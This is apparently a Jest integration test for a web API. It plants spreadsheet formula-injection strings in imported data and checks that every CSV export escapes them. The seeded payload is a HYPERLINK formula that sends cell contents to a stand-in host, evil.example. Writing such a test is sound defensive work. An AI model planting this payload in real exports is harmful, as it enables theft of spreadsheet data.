import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import request from 'supertest';
import { administrator } from '../support/administrator';
import { CheckedApi } from '../support/api';
import { freshDatabase, type TestDatabase } from '../support/database';
import { startServer, type TestServer } from '../support/server';
import { Spreadsheets } from './sending-spreadsheets';

jest.setTimeout(60_000);

const demonstration = readFileSync(join(__dirname, '..', '..', 'demo', 'partnership.json'), 'utf8');
const texts = [
  ...['title', 'name', 'task', 'quotation', 'label', 'statement', 'summary', 'deputyName'],
  ...['description', 'place', 'note', 'cancelReason', 'reason', 'answer', 'explanation', 'interest'],
];
/** What a spreadsheet takes for the beginning of a formula. */
const beginnings = ['=', '+', '-', '@', '\t', '\r'];
const payload = `HYPERLINK("http://evil.example/?"&A1) `;

let database: TestDatabase;
let server: TestServer;

beforeAll(async () => {
  database = await freshDatabase();
  server = await startServer({ databaseUrl: database.url, env: { WEBHOOK_HOSTS: 'hooks.example.org' } });
  let turn = 0;
  const armed: unknown = JSON.parse(demonstration, (key, value: unknown) =>
    typeof value === 'string' && texts.includes(key)
      ? `${beginnings[(turn += 1) % 4] ?? ''}${payload}${value}`.slice(0, 300)
      : value,
  );
  const { status, text } = await request(server.url)
    .post('/api/v1/partnership/import')
    .set(administrator)
    .send(armed as object);
  if (status !== 200) throw new Error(text);
  const report = { kind: 'GOVERNANCE', from: '2013-01-01', to: '2013-12-31', summary: `=${payload}` };
  await request(server.url).post('/api/v1/reports').set(administrator).send(report).expect(201);
  const webhook = { address: 'https://hooks.example.org/', events: ['meeting.logged'] };
  await request(server.url).post('/api/v1/webhooks').set(administrator).send(webhook).expect(201);
  // A row that is fine, one with a fault, and one that asks something: each with what a formula begins with.
  const sheets = new Spreadsheets(server.url, await CheckedApi.at(server.url));
  const rows = [`=${payload}A,Trust,`, `=${payload}B,=${payload}C,soon`, `=${payload}a,Trust,3/4/2012`];
  await sheets.checked('PEOPLE', ['Name,Organisation,From', ...rows, ''].join('\n'), await firstOf('hits'));
});

afterAll(async () => {
  await database.drop();
});

/** The cells of CSV, without the quotes around them. */
function cells(csv: string): string[] {
  return [...csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g)].map(([, quoted, bare]) =>
    (quoted ?? bare ?? '').replaceAll('""', '"'),
  );
}

/** The first of what a collection holds. */
async function firstOf(collection: string): Promise<string> {
  const { body } = await request(server.url).get(`/api/v1/${collection}?limit=1`).set(administrator);
  return (body as { items: { id: string }[] }).items[0]?.id ?? '';
}

describe('A list as CSV', () => {
  it('has no cell that a spreadsheet would run, whatever people wrote, in any list there is', async () => {
    const { body } = await request(server.url).get('/api/v1/openapi.json');
    const paths = body.paths as Record<string, { get?: { responses: object } }>;
    const lists = Object.keys(paths).filter((path) =>
      JSON.stringify(paths[path]?.get?.responses ?? {}).includes('text/csv'),
    );
    const unguarded: string[] = [];
    const guarded = new Set<string>();
    for (const list of lists) {
      const [, , , collection = ''] = list.split('/');
      const path = list.includes('{id}') ? list.replace('{id}', await firstOf(collection)) : list;
      const groups = list.includes('agenda-alignment')
        ? `?group=${await firstOf('groups')}&with=${await firstOf('groups')}`
        : '';
      const { status, text } = await request(server.url)
        .get(`${path}${groups}`)
        .set({ ...administrator, Accept: 'text/csv' });
      // What some lists need to be told, such as one thing of which to show the history, is no matter of cells.
      if (status === 422) continue;
      expect([list, status]).toEqual([list, 200]);
      for (const cell of cells(text)) {
        if (cell.startsWith(`'`) && cell.includes('HYPERLINK')) guarded.add(list);
        if (beginnings.some((beginning) => cell.startsWith(beginning)) && Number.isNaN(Number(cell)))
          unguarded.push(`${list}: ${cell}`);
      }
    }
    expect(unguarded).toEqual([]);
    expect(lists.length).toBeGreaterThan(40);
    expect(guarded.size).toBeGreaterThan(25);
    const ofSpreadsheets = ['faults', 'questions', 'failed-rows'].map(
      (part) => `/api/v1/spreadsheet-imports/{id}/${part}`,
    );
    expect(ofSpreadsheets.filter((list) => !guarded.has(list))).toEqual([]);
  });
});
